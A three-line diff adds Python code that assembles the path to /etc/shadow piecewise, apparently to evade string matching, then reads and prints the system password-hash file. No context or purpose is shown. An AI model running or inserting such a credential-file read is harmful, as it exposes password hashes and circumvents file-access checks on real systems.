@@ -1,0 +1,3 @@
+path = "/".join(["", "etc", "shadow"])
+with open(path) as file:
+    print(file.read())
